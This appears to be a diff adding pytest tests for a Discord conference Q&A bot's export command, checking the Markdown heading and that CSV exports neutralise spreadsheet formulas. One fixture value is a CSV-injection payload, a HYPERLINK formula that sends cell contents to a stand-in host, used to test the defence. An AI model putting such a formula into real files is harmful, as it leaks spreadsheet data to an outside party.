@@ -1,0 +1,52 @@
+"""``/qa export`` through the running bot against the local Discord emulator: the file a moderator downloads."""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import AsyncIterator
+from pathlib import Path
+
+import pytest
+
+from tests.bot.conftest import TALK_1_LIVE, Event, MovableClock, running_event
+
+FORMULA_QUESTION = '=HYPERLINK("http://evil.example/?"&A1,"Is this safe?")'
+
+
+@pytest.fixture
+async def event(tmp_path: Path) -> AsyncIterator[Event]:
+    async with running_event(tmp_path, MovableClock(TALK_1_LIVE)) as running:
+        await running.emu.wait_for_message(running.announcements, lambda m: "Invited Talk 1" in m.content)
+        await running.emu.wait_until(lambda: running.bot.announcer is not None and not running.bot.announcer.busy())
+        yield running
+
+
+async def exported_file(event: Event, fmt: str) -> str:
+    result = await event.emu.slash("qa export", {"format": fmt}, user=event.moderator)
+    assert result.response is not None
+    (data,) = result.response.files.values()
+    return data.decode("utf-8")
+
+
+async def test_markdown_export_is_headed_by_the_title_speakers_and_time_of_the_schedule_in_force(
+    event: Event,
+) -> None:
+    await event.emu.slash("ask", {"question": "How does it scale?"}, user=event.attendee)
+
+    text = await exported_file(event, "md")
+
+    assert "## Session" not in text
+    assert (
+        "## Invited Talk 1 — Andrew Wilson (NYU)\n\n"
+        "Saturday 11 May 2024, 09:00–09:30 Europe/Vienna\n\n"
+        "1. How does it scale?  \n"
+    ) in text
+
+
+async def test_csv_export_shows_a_formula_question_as_text(event: Event) -> None:
+    await event.emu.slash("ask", {"question": FORMULA_QUESTION}, user=event.attendee)
+
+    (row,) = csv.DictReader(io.StringIO(await exported_file(event, "csv"), newline=""))
+
+    assert row["text"] == "'" + FORMULA_QUESTION
